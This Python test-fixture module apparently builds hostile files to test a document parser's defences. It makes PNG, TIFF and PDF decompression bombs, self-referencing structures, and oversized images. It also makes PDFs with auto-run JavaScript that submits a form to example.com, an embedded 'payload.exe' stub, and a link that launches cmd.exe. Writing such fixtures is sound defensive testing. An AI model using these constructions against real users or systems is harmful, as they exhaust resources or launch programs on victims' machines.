"""Files made to do harm, one maker for each harm: what it is, and the bytes."""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable, Mapping, Sequence

from PIL import Image

from tests.documents.printed import pay_stub
from tests.documents.sheet import Sheet, pdf_of

Maker = Callable[[], bytes]


def encrypted_pdf() -> bytes:
    """A PDF whose encryption dictionary asks for a password that nobody has."""
    body = pdf_of(Sheet())
    locked = (
        b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <"
        + b"41" * 32
        + b"> /U <"
        + b"42" * 32
    )
    return body.replace(b"trailer << ", b"trailer << " + locked + b"> >> /ID [<41><41>] ")


def png_that_claims(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is huge."""
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return _png(("IHDR", head), ("IDAT", zlib.compress(b"\0")))


def png_that_swells() -> bytes:
    """A PNG within the limit of pixels whose data inflates to a thousand times its size."""
    head = struct.pack(">IIBBBBB", 7_000, 8_000, 8, 2, 0, 0, 0)
    return _png(("IHDR", head), ("IDAT", zlib.compress(bytes(3 * 7_000 * 8_000 + 8_000), 9)))


def png_with_a_bomb_of_text() -> bytes:
    """A small PNG that carries a hundred megabytes of compressed remarks."""
    head = struct.pack(">IIBBBBB", 8, 8, 8, 0, 0, 0, 0)
    remarks = b"Comment\0\0" + zlib.compress(b"a" * 100_000_000, 9)
    return _png(("IHDR", head), ("zTXt", remarks), ("IDAT", zlib.compress(bytes(8 * 9))))


def _png(*chunks: tuple[str, bytes]) -> bytes:
    out = b"\x89PNG\r\n\x1a\n"
    for name, data in (*chunks, ("IEND", b"")):
        kind = name.encode()
        out += struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return out


def tiff_in_a_circle() -> bytes:
    """A TIFF whose second directory is its first."""
    entries = b"".join(
        struct.pack("<HHII", tag, 4, 1, value)
        for tag, value in ((256, 1), (257, 1), (258, 8), (259, 1), (262, 1), (273, 8), (278, 1), (279, 1))
    )
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", 8) + entries + struct.pack("<I", 8) + b"\0"


def tiff_of_pages(count: int) -> bytes:
    """A TIFF of so many tiny pages."""
    buffer = io.BytesIO()
    page = Image.new("1", (8, 8), 1)
    page.save(buffer, "TIFF", save_all=True, append_images=[page] * (count - 1))
    return buffer.getvalue()


def pdf_of_ten_thousand_pages() -> bytes:
    """A PDF that has them all, on one sheet used again and again."""
    return pdf_of(*[Sheet()] * 10_000)


def pdf_that_claims_ten_thousand_pages() -> bytes:
    """A PDF of one page that counts ten thousand."""
    return pdf_of(Sheet()).replace(b"/Count 1 ", b"/Count 10000 ")


def pdf_with(*objects: bytes, catalog: str = "", page: bytes = b"") -> bytes:
    """A pay stub with objects from 4 on, entries of its catalog, and entries of its page."""
    content = pdf_of(pay_stub(1).sheet, objects=objects, catalog=catalog)
    return content.replace(b"/Type /Page ", b"/Type /Page " + page + b" ")


def pdf_with_a_script() -> bytes:
    """JavaScript that runs when the file is opened."""
    return pdf_with(
        b"<< /S /JavaScript /JS (app.alert\\('hello'\\); this.submitForm\\('https://example.com'\\)) >>",
        catalog="/OpenAction 4 0 R",
    )


def pdf_with_a_file() -> bytes:
    """Another file carried inside."""
    return pdf_with(
        b"<< /Names [(payload.exe) 5 0 R] >>",
        b"<< /Type /Filespec /F (payload.exe) /UF (payload.exe) /EF << /F 6 0 R >> >>",
        b"<< /Type /EmbeddedFile /Length 4 >>\nstream\nMZ\0\0\nendstream",
        catalog="/Names << /EmbeddedFiles 4 0 R >>",
    )


def pdf_with_a_launch() -> bytes:
    """A link that starts a program."""
    link = b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (cmd.exe) >> >>"
    return pdf_with(link, page=b"/Annots [4 0 R]")


def pdf_that_inflates() -> bytes:
    """Fifty megabytes of drawing in fifty kilobytes of file."""
    bomb = zlib.compress(b"0 0 m 9 9 l S\n" * 4_000_000, 9)
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(bomb) + bomb + b"\nendstream"
    return pdf_of(Sheet(), objects=(stream,)).replace(b"/Contents 6 0 R", b"/Contents 4 0 R")


def pdf_that_inflates_twice() -> bytes:
    """A quarter of a gigabyte of nothing, compressed and compressed again."""
    inner = zlib.compress(b" " * 250_000_000, 9)
    bomb = zlib.compress(inner, 9)
    head = b"<< /Length %d /Filter [/FlateDecode /FlateDecode] >>\nstream\n" % len(bomb)
    content = pdf_of(Sheet(), objects=(head + bomb + b"\nendstream",))
    return content.replace(b"/Contents 6 0 R", b"/Contents 4 0 R")


def pdf_with_a_huge_picture() -> bytes:
    """An image of 50,000 by 50,000 pixels on a letter page."""
    data = zlib.compress(bytes(1000), 9)
    image = b"<< /Type /XObject /Subtype /Image /Width 50000 /Height 50000 /ColorSpace /DeviceRGB "
    image += b"/BitsPerComponent 8 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data) + data
    sheet = Sheet(extra="q 612 0 0 792 0 0 cm /Im0 Do Q")
    content = pdf_of(sheet, objects=(image + b"\nendstream",))
    return content.replace(b"/Font <<", b"/XObject << /Im0 4 0 R >> /Font <<")


def pdf_larger_than_any_paper() -> bytes:
    """A page of nine thousand million points."""
    return pdf_of(pay_stub(1).sheet).replace(b"/MediaBox [0 0 612 792]", b"/MediaBox [0 0 9e9 9e9]")


def pdf_that_draws_itself() -> bytes:
    """A form within itself."""
    body = b"/Fm0 Do /Fm0 Do"
    form = b"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /Fm0 4 0 R >> >> "
    stream = form + b"/Length %d >>\nstream\n" % len(body) + body + b"\nendstream"
    content = pdf_of(Sheet(extra="/Fm0 Do"), objects=(stream,))
    return content.replace(b"/Font <<", b"/XObject << /Fm0 4 0 R >> /Font <<")


def pdf_whose_pages_go_in_a_circle() -> bytes:
    """A node of the page tree that is its own child."""
    return pdf_of(pay_stub(1).sheet).replace(b"/Type /Pages /Kids [", b"/Type /Pages /Kids [2 0 R ")


def pdf_nested_without_end() -> bytes:
    """A hundred thousand brackets within one another."""
    return pdf_with(b"[" * 100_000 + b"]" * 100_000, catalog="/Extra 4 0 R")


def pdf_full_of_letters() -> bytes:
    """A page with a hundred thousand characters on it."""
    sheet = Sheet()
    for line in range(100):
        sheet.put(40, 40 + 7 * line, "w" * 1_000, size=0.7)
    return pdf_of(sheet)


def zip_called_pdf() -> bytes:
    """An archive with a PDF's name on it."""
    return b"PK\x03\x04" + bytes(60)


HOSTILE: Mapping[str, Maker] = {
    maker.__name__: maker
    for maker in (
        encrypted_pdf, png_that_swells, png_with_a_bomb_of_text, tiff_in_a_circle,
        pdf_of_ten_thousand_pages, pdf_that_claims_ten_thousand_pages, pdf_with_a_script, pdf_with_a_file,
        pdf_with_a_launch, pdf_that_inflates, pdf_that_inflates_twice, pdf_with_a_huge_picture,
        pdf_larger_than_any_paper, pdf_that_draws_itself, pdf_whose_pages_go_in_a_circle,
        pdf_nested_without_end, pdf_full_of_letters, zip_called_pdf,
    )
} | {
    "png_of_50000_by_50000": lambda: png_that_claims(50_000, 50_000),
    "tiff_of_six_hundred_pages": lambda: tiff_of_pages(600),
}  # fmt: skip


def damaged(content: bytes, rng: random.Random, others: Sequence[bytes] = ()) -> bytes:
    """The file cut, scrambled, torn, repeated in parts, or with a part of another file in it."""
    torn = bytearray(content)
    start = rng.randrange(len(torn))
    end = min(start + rng.randrange(1, 4_000), len(torn))
    way = rng.randrange(6 if others else 5)
    if way == 0:
        return bytes(torn[:start])
    if way == 1:
        for _ in range(rng.randrange(1, 60)):
            torn[rng.randrange(len(torn))] = rng.randrange(256)
    elif way == 2:
        del torn[start:end]
    elif way == 3:
        torn[start:start] = torn[start:end] * rng.randrange(2, 30)
    elif way == 4:
        torn[start:start] = rng.randbytes(rng.randrange(1, 800))
    else:
        torn[start:end] = rng.choice(others)[start:end]
    return bytes(torn)
